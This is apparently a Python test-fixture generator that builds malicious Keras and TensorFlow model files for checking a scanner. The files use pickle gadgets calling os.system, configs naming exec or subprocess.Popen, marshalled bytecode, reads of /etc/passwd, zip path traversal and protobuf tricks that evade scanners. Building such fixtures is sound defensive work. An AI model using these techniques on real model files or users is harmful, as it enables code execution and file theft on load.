"""Makes test/artifacts/attacks: artifacts that reach out of the model while they are loaded, in ways that scanners overlook.

    PYTHON scripts/make-attacks.py             (Python 3.11 with h5py; the bytecode among them is of the Python that runs this)
    PYTHON scripts/make-attacks.py variations  (the same with TensorFlow 2.15: the second half of them alone)

Every payload does one thing: it leaves a file named "pwned" in the working directory. scripts/record-loads.py tells
where real Keras lets it.
"""
import base64, codecs, functools, io, json, marshal, os, pickle, shutil, subprocess, sys, zipfile
import h5py
import numpy as np

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "test", "artifacts")
OUT = os.path.join(ROOT, "attacks")
manifest = {}


def note(name, kind, what):
    manifest[name] = {"kind": kind, "category": "unsafe", "what": what}
    path = os.path.join(OUT, name)
    if os.path.isdir(path):
        shutil.rmtree(path)
    return path


def weights():
    data = io.BytesIO()
    with h5py.File(data, "w") as file:
        file.create_group("vars")
        file.create_group("layers")
    return data.getvalue()


def archive(name, what, config, version, members=None):
    path = note(name, "keras", what)
    metadata = {"keras_version": version, "date_saved": "2025-01-01@00:00:00"}
    parts = {"metadata.json": json.dumps(metadata).encode(), "config.json": json.dumps(config).encode(), **(members or {"model.weights.h5": weights()})}
    with zipfile.ZipFile(path, "w") as file:
        for member, data in parts.items():
            file.writestr(zipfile.ZipInfo(member, (2025, 1, 1, 0, 0, 0)), data)


def hdf5(name, what, config, version):
    path = note(name, "h5", what)
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = version
        file.attrs["backend"] = "tensorflow"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = []
        group.attrs["backend"] = "tensorflow"
        group.attrs["keras_version"] = version


def keras(class_name, config, module="keras.layers", **more):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None, **more}


def input3(name="in", shape=(None, 4)):
    return keras("InputLayer", {"batch_shape": list(shape), "dtype": "float32", "sparse": False, "name": name})


def input2(name="in", shape=(None, 4)):
    return keras("InputLayer", {"batch_input_shape": list(shape), "dtype": "float32", "sparse": False, "ragged": False, "name": name})


def sequential(*layers):
    return keras("Sequential", {"name": "model", "layers": list(layers)}, "keras")


def functional3(entry, after=()):
    """A functional model of Keras 3 in which one "layer" is whatever `entry` names, called with the arguments it gives."""
    first = {**input3(), "name": "in", "inbound_nodes": []}
    dense = {**keras("Flatten", {"name": "flat"}), "name": "flat", "inbound_nodes": [{"args": [tensor("in")], "kwargs": {}}]}
    config = {"name": "model", "trainable": True, "layers": [first, dense, entry], "input_layers": [["in", 0, 0]], "output_layers": [["flat", 0, 0]]}
    return keras("Functional", config, "keras.src.models.functional", registered_name="Functional")


def tensor(name):
    return {"class_name": "__keras_tensor__", "config": {"shape": [None, 4], "dtype": "float32", "keras_history": [name, 0, 0]}}


def called(module, function, *args, **kwargs):
    return {"module": module, "class_name": "function", "config": function, "registered_name": "function", "name": "gadget",
            "inbound_nodes": [{"args": list(args), "kwargs": kwargs}]}


def payload():
    def attack(x):
        open("pwned", "w").close()
        return x
    return attack.__code__.replace(co_filename="attack.py", co_qualname="attack")


code = base64.b64encode(marshal.dumps(payload())).decode()
wrapped = "\n".join(code[i:i + 60] for i in range(0, len(code), 60))


class Pickled:
    def __reduce__(self):
        return (os.system, ("touch pwned",))


def lambda3(function):
    return keras("Lambda", {"name": "gadget", "trainable": True, "dtype": "float32", "function": function, "arguments": {}})


def bytecode3():
    return {"class_name": "__lambda__", "config": {"code": wrapped, "defaults": None, "closure": None}}


def main():
    os.makedirs(OUT, exist_ok=True)
    typespec = {"class_name": "__typespec__", "spec_name": "system", "module": "os", "config": ["touch pwned"], "registered_name": None}
    dense = {"name": "dense", "units": 2, "trainable": True, "dtype": "float32", "activation": typespec, "use_bias": True}
    nested = keras("TimeDistributed", {"name": "td", "layer": typespec})
    archive("typespec_call.keras", "a layer inside another is a __typespec__, whose class Keras looks up wherever the config says: os.system", sequential(input3(), nested), "3.8.0")

    data = io.BytesIO()
    np.savez(data, **{path: np.array(Pickled(), dtype=object) for path in ("layers/dense", "_layer_checkpoint_dependencies/dense")})
    flat = sequential(input3(), keras("Flatten", {"name": "flat"}))
    linear = keras("Dense", {**dense, "activation": "linear"}, build_config={"input_shape": [None, 4]})
    archive("npz_pickle.keras", "the weights are an .npz whose arrays are pickles", sequential(input3(), linear), "3.8.0", {"model.weights.npz": data.getvalue()})
    archive("npz_pickle_2.keras", "the same for Keras 2", sequential(input2(), linear), "2.15.0", {"model.weights.npz": data.getvalue()})

    functions = {
        "os_system": called("os", "system", "touch pwned"),
        "get_file": called("keras.utils", "get_file", "pwned", origin="file:///etc/hostname", cache_dir=".", cache_subdir="."),
        "source_module": called("keras.src.utils.file_utils", "get_file", "pwned", origin="file:///etc/hostname", cache_dir=".", cache_subdir="."),
        "numpy_save": called("numpy", "save", "pwned", [1]),
        "tensorflow_write": called("tensorflow.python.lib.io.file_io", "write_string_to_file", "pwned", "x"),
    }
    for name, entry in functions.items():
        archive(f"function_{name}.keras", f"a layer is the function {entry['module']}.{entry['config']}, called with arguments of the config", functional3(entry), "3.8.0")

    archive("lambda_in_wrapper.keras", "a Lambda inside TimeDistributed", sequential(input3(shape=(None, 3, 4)), keras("TimeDistributed", {"name": "td", "layer": lambda3(bytecode3())})), "3.8.0")
    archive("lambda_in_compile.keras", "bytecode as the loss in compile_config", {**flat, "compile_config": {"optimizer": "sgd", "loss": bytecode3()}}, "3.8.0")
    initializer = {**dense, "activation": "linear", "kernel_initializer": bytecode3()}
    archive("lambda_in_initializer.keras", "bytecode as an initializer", sequential(input3(), keras("Dense", initializer)), "3.8.0")

    lookup = {"name": "lookup", "trainable": True, "dtype": "string", "vocabulary": "/etc/passwd", "num_oov_indices": 1, "oov_token": "[UNK]", "output_mode": "int", "invert": False, "mask_token": None}
    text = keras("InputLayer", {"batch_shape": [None, 1], "dtype": "string", "sparse": False, "name": "in"})
    archive("vocabulary_passwd.keras", "a vocabulary read from /etc/passwd", sequential(text, keras("StringLookup", lookup)), "3.8.0")

    # .h5 of Keras 2
    plain = lambda class_name, config: {"class_name": class_name, "config": config}
    first = plain("InputLayer", {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False, "ragged": False, "name": "in"})
    legacy = lambda function: plain("Sequential", {"name": "model", "layers": [first, plain("Lambda", {
        "name": "gadget", "trainable": True, "dtype": "float32", "function": function, "function_type": "lambda", "module": "builtins",
        "output_shape": None, "output_shape_type": "raw", "output_shape_module": None, "arguments": {}})]})
    hdf5("lambda_text.h5", "a Lambda whose bytecode is text and not a list", legacy(wrapped), "2.15.0")
    hdf5("lambda_latin.h5", "a Lambda whose bytecode stands as it is, not in base64", legacy(marshal.dumps(payload()).decode("latin-1")), "2.15.0")

    def functional2(layer):
        layers = [{**first, "name": "in", "inbound_nodes": []}, {**plain("Flatten", {"name": "flat"}), "name": "flat", "inbound_nodes": [[["in", 0, 0, {}]]]}, layer]
        return plain("Functional", {"name": "model", "layers": layers, "input_layers": [["in", 0, 0]], "output_layers": [["flat", 0, 0]]})

    def operation(symbol, value, **kwargs):
        return {**plain("TFOpLambda", {"name": "gadget", "trainable": True, "dtype": "float32", "function": symbol}), "name": "gadget",
                "inbound_nodes": [["_CONSTANT_VALUE", -1, value, kwargs]]}
    hdf5("operation_write_file.h5", "a TFOpLambda of io.write_file, called with constants", functional2(operation("io.write_file", "pwned", contents="x")), "2.15.0")
    hdf5("operation_copy.h5", "a TFOpLambda of io.gfile.copy", functional2(operation("io.gfile.copy", "/etc/hostname", dst="pwned")), "2.15.0")
    hdf5("operation_get_file.h5", "a TFOpLambda of keras.utils.get_file", functional2(operation("keras.utils.get_file", "pwned", origin="file:///etc/hostname", cache_dir=".", cache_subdir=".")), "2.15.0")

    # SavedModels: bytes that protobuf merges or puts in any order
    base = os.path.join(ROOT, "tf215", "sm_unsafe_file_ops")
    saved = open(os.path.join(base, "saved_model.pb"), "rb").read()
    graphs = list(fields(saved))
    for name, what, change in (
        ("sm_second_graph", "a second, empty graph_def behind the first; protobuf merges both", lambda graph: graph + field(2, b"")),
        ("sm_long_nodes", "a node whose attribute stands first and is longer than a megabyte", lambda graph: b"".join(field(n, padded(payload)) if n == 2 else raw for n, payload, raw in fields(graph))),
    ):
        path = note(name, "savedmodel", what)
        shutil.copytree(base, path)
        changed = b"".join(field(n, change(payload)) if n == 2 else raw for n, payload, raw in graphs)
        open(os.path.join(path, "saved_model.pb"), "wb").write(changed)
        os.path.exists(os.path.join(path, "fingerprint.pb")) and os.remove(os.path.join(path, "fingerprint.pb"))
    json.dump(manifest, open(os.path.join(OUT, "manifest.json"), "w"), indent=1, sort_keys=True)


def padded(graph):
    """The first node that writes files, with a long attribute in front and its name and operation behind."""
    out = b""
    for number, payload, raw in fields(graph):
        if number == 2:
            raw = field(2, b"".join(field(1, padded_function(f)) if n == 1 else r for n, f, r in fields(payload)))
        out += raw
    return out


done = []


def padded_function(function):
    out = b""
    for number, payload, raw in fields(function):
        if number == 3 and not done and b"WriteFile" in payload:
            parts = list(fields(payload))
            attribute = field(1, b"_pad") + field(2, field(2, b"x" * (3 << 19)))
            done.append(True)
            raw = field(3, field(5, attribute) + b"".join(r for _, _, r in reversed(parts)))
        out += raw
    return out


def varint(data, at):
    value = shift = 0
    while True:
        byte = data[at]
        value |= (byte & 127) << shift
        at += 1
        shift += 7
        if byte < 128:
            return value, at


def number_bytes(value):
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + bytes([value]))


def field(number, payload):
    return number_bytes(number << 3 | 2) + number_bytes(len(payload)) + payload


def fields(data):
    """The fields of a message: number, payload (empty where it is a number), the bytes as they stand."""
    at = 0
    while at < len(data):
        start = at
        tag, at = varint(data, at)
        if tag & 7 == 0:
            _, at = varint(data, at)
            payload = b""
        elif tag & 7 == 2:
            size, at = varint(data, at)
            payload = data[at:at + size]
            at += size
        else:
            at += 8 if tag & 7 == 1 else 4
            payload = b""
        yield tag >> 3, payload, data[start:at]


def variations():
    """More ways to the same ends."""
    manifest.update(json.load(open(os.path.join(OUT, "manifest.json"))))
    keras_variations()
    graph_variations()
    json.dump(manifest, open(os.path.join(OUT, "manifest.json"), "w"), indent=1, sort_keys=True)


def keras_variations():
    flat = sequential(input3(), keras("Flatten", {"name": "flat"}))
    function = lambda module, name: {"module": module, "class_name": "function", "config": name, "registered_name": name}
    archive("builtin_exec.keras", "a layer is the function exec of Python itself", functional3(called("builtins", "exec", "open('pwned','w')")), "3.8.0")
    popen = keras("Popen", {"args": "touch pwned", "shell": True}, "subprocess")
    archive("class_popen.keras", "a layer inside another is an instance of subprocess.Popen", sequential(input3(), keras("TimeDistributed", {"name": "td", "layer": popen})), "3.8.0")
    inner = functional3(called("os", "system", "touch pwned"))
    for depth in range(3):
        inner = sequential(input3(), {**inner, "config": {**inner["config"], "name": f"inner_{depth}"}})
    archive("function_deep.keras", "a function four models deep", inner, "3.8.0")
    archive("loss_os_system.keras", "the loss is os.system", {**flat, "compile_config": {"optimizer": "sgd", "loss": function("os", "system")}}, "3.8.0")
    archive("metric_lambda.keras", "bytecode among the metrics", {**flat, "compile_config": {"optimizer": "sgd", "loss": "mean_squared_error", "metrics": [[bytecode3()]]}}, "3.8.0")
    archive("unsafe_switch.keras", "a layer is the function that switches safe mode off", functional3(called("keras.config", "enable_unsafe_deserialization")), "3.8.0")
    archive("load_model_call.keras", "a layer is load_model of another file", functional3(called("keras.saving", "load_model", "/tmp/other.keras", safe_mode=False)), "3.8.0")
    lookup = {"name": "lookup", "trainable": True, "dtype": "string", "vocabulary": "https://example.com/words.txt", "num_oov_indices": 1, "oov_token": "[UNK]", "output_mode": "int", "invert": False, "mask_token": None}
    text = keras("InputLayer", {"batch_shape": [None, 1], "dtype": "string", "sparse": False, "name": "in"})
    archive("vocabulary_remote.keras", "a vocabulary from an address, two models deep", sequential(text, sequential(text, keras("StringLookup", lookup))), "3.8.0")
    served = keras("TFSMLayer", {"name": "served", "filepath": "/tmp/other_model", "call_endpoint": "serve", "call_training_endpoint": None, "trainable": True, "dtype": "float32"})
    archive("served_inside.keras", "a TFSMLayer inside a wrapper", sequential(input3(), keras("TimeDistributed", {"name": "td", "layer": served})), "3.8.0")

    path = note("member_backslash.keras", "keras", "a member whose name leads outside with backslashes")
    with zipfile.ZipFile(path, "w") as file:
        for member, data in {"metadata.json": b'{"keras_version": "3.8.0"}', "config.json": json.dumps(flat).encode(), "model.weights.h5": weights(), "assets\\..\\..\\pwned": b"x"}.items():
            entry = zipfile.ZipInfo(member, (2025, 1, 1, 0, 0, 0))
            entry.filename = member
            file.writestr(entry, data)

    data = io.BytesIO()
    with h5py.File(data, "w") as file:
        file.create_group("vars")
        deep = file.create_group("layers/sequential/layers/dense/vars")
        deep["0"] = h5py.ExternalLink("/etc/hostname", "/")
        deep.create_dataset("1", (4,), "f4", external=[("/etc/hostname", 0, 16)])
    archive("external_deep.keras", "an external link and external values deep in the weights", flat, "3.8.0", {"model.weights.h5": data.getvalue()})

    class Partial:
        def __reduce__(self):
            return (functools.partial(os.system, "touch pwned"), ())

    class Instance:
        def __reduce__(self):
            return (subprocess.getoutput, ("touch pwned",))

    for name, what, made, protocol in (("npz_partial.keras", "a pickle that calls through functools.partial", Partial(), 4), ("npz_old_pickle.keras", "a pickle of protocol 0", Instance(), 0)):
        head = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }".ljust(117) + b"\n"
        array = b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + pickle.dumps(np.array(made, dtype=object), protocol=protocol)
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as file:
            file.writestr(zipfile.ZipInfo("layers/dense.npy", (2025, 1, 1, 0, 0, 0)), array)
        archive(name, what, sequential(input3(), keras("Dense", {"name": "dense", "units": 2}, build_config={"input_shape": [None, 4]})), "3.8.0", {"model.weights.npz": packed.getvalue()})

    plain = lambda class_name, config: {"class_name": class_name, "config": config}
    first = plain("InputLayer", {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False, "ragged": False, "name": "in"})
    lambda2 = {"name": "gadget", "trainable": True, "dtype": "float32", "function": "relu", "function_type": "function", "module": "keras.activations", "output_shape": [wrapped, None, None], "output_shape_type": "lambda", "output_shape_module": None, "arguments": {}}
    hdf5("lambda_output_shape.h5", "bytecode as the output shape of a Lambda", plain("Sequential", {"name": "model", "layers": [first, plain("Sequential", {"name": "inner", "layers": [first, plain("Lambda", lambda2)]})]}), "2.15.0")

    def functional2(symbol, value, **kwargs):
        gadget = {**plain("TFOpLambda", {"name": "gadget", "trainable": True, "dtype": "float32", "function": symbol}), "name": "gadget", "inbound_nodes": [["_CONSTANT_VALUE", -1, value, kwargs]]}
        layers = [{**first, "name": "in", "inbound_nodes": []}, {**plain("Flatten", {"name": "flat"}), "name": "flat", "inbound_nodes": [[["in", 0, 0, {}]]]}, gadget]
        return plain("Functional", {"name": "model", "layers": layers, "input_layers": [["in", 0, 0]], "output_layers": [["flat", 0, 0]]})
    hdf5("operation_raw.h5", "a TFOpLambda of raw_ops.WriteFile", functional2("raw_ops.WriteFile", "pwned", filename="pwned", contents="x"), "2.15.0")
    hdf5("operation_remove.h5", "a TFOpLambda of compat.v1.gfile.MakeDirs", functional2("compat.v1.gfile.MakeDirs", "pwned"), "2.15.0")


def graph_variations():
    os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
    import tempfile
    import tensorflow as tf
    from tensorflow.core.protobuf import saved_model_pb2

    def save(name, what, module, signatures=None, change=None):
        path = note(name, "savedmodel", what)
        tf.saved_model.save(module, path, signatures=signatures)
        file = os.path.join(path, "saved_model.pb")
        if change is not None:
            model = saved_model_pb2.SavedModel.FromString(open(file, "rb").read())
            change(model.meta_graphs[0])
            open(file, "wb").write(model.SerializeToString())
        os.path.exists(os.path.join(path, "fingerprint.pb")) and os.remove(os.path.join(path, "fingerprint.pb"))

    words = os.path.join(tempfile.mkdtemp(), "words.txt")
    open(words, "w").write("a\nb\n")

    class Table(tf.Module):
        def __init__(self):
            super().__init__()
            self.table = tf.lookup.StaticHashTable(tf.lookup.TextFileInitializer(words, tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER), -1)

        @tf.function(input_signature=[tf.TensorSpec((None,), tf.string)])
        def __call__(self, x):
            return self.table.lookup(x)

    def initializer(graph):
        return next(f for f in graph.graph_def.library.function if any(n.op == "InitializeTableFromTextFileV2" for n in f.node_def))

    def constant(name, text):
        node = tf.compat.v1.NodeDef(name=name, op="Const")
        node.attr["dtype"].type = tf.string.as_datatype_enum
        node.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(text))
        return node

    def constant_path(graph):
        function = initializer(graph)
        function.node_def.insert(0, constant("where", b"/etc/passwd"))
        for node in function.node_def:
            if node.op == "InitializeTableFromTextFileV2":
                node.input[1] = "where:output:0"
    save("sm_table_constant", "a lookup table that is filled from /etc/passwd", Table(), change=constant_path)

    def joined_path(graph):
        function = initializer(graph)
        join = tf.compat.v1.NodeDef(name="joined", op="StringJoin", input=["where:output:0", "rest:output:0"])
        join.attr["N"].i = 2
        join.attr["separator"].s = b"/"
        for node in (join, constant("rest", b"passwd"), constant("where", b"/etc")):
            function.node_def.insert(0, node)
        for node in function.node_def:
            if node.op == "InitializeTableFromTextFileV2":
                node.input[1] = "joined:output:0"
    save("sm_table_joined", "the same, the path put together of two", Table(), change=joined_path)

    def captured_path(graph):
        name = initializer(graph).signature.name
        graph.graph_def.node.append(constant("somewhere", b"/etc/passwd"))
        objects = graph.object_graph_def
        added = objects.nodes.add()
        added.constant.operation = "somewhere"
        bound = objects.concrete_functions[name].bound_inputs
        for place, number in enumerate(bound):
            if objects.nodes[number].WhichOneof("kind") == "asset":
                bound[place] = len(objects.nodes) - 1
    save("sm_table_captured", "a lookup table whose initializer captures a constant path instead of an asset", Table(), change=captured_path)

    one = tf.TensorSpec((), tf.float32)

    class Branch(tf.Module):
        @tf.function(input_signature=[one])
        def __call__(self, x):
            def leaf():
                with tf.control_dependencies([tf.io.write_file("pwned", "x")]):
                    return tf.identity(x)
            return tf.cond(x > 0, lambda: tf.cond(x > 1, leaf, lambda: x), lambda: x)
    save("sm_write_in_branch", "WriteFile two branches deep", Branch())

    class Loop(tf.Module):
        @tf.function(input_signature=[one])
        def __call__(self, x):
            return tf.while_loop(lambda i, y: i < 2, lambda i, y: (i + 1, y + tf.cast(tf.strings.length(tf.io.read_file("/etc/passwd")), tf.float32)), (0, x))[1]
    save("sm_read_in_loop", "ReadFile in the body of a loop", Loop())

    class Print(tf.Module):
        @tf.function(input_signature=[one])
        def __call__(self, x):
            tf.print(x, output_stream="file://pwned")
            return x
    save("sm_print_file", "a print into a file", Print())

    class Lines(tf.Module):
        @tf.function(input_signature=[one])
        def __call__(self, x):
            for line in tf.data.TextLineDataset(["/etc/passwd"]).take(1):
                x += tf.cast(tf.strings.length(line), tf.float32)
            return x
    save("sm_dataset_lines", "a dataset of the lines of /etc/passwd", Lines())

    class Mapped(tf.Module):
        @tf.function(input_signature=[one])
        def __call__(self, x):
            for y in tf.data.Dataset.range(1).map(lambda i: tf.strings.length(tf.io.read_file("/etc/passwd"))):
                x += tf.cast(y, tf.float32)
            return x
    save("sm_read_in_dataset", "ReadFile in the function that a dataset maps", Mapped())

    class Saves(tf.Module):
        @tf.function(input_signature=[one])
        def __call__(self, x):
            tf.raw_ops.SaveV2(prefix="pwned", tensor_names=["x"], shape_and_slices=[""], tensors=[x])
            return x
    save("sm_save_in_signature", "SaveV2 that a signature runs", Saves())


variations() if sys.argv[1:] == ["variations"] else main()
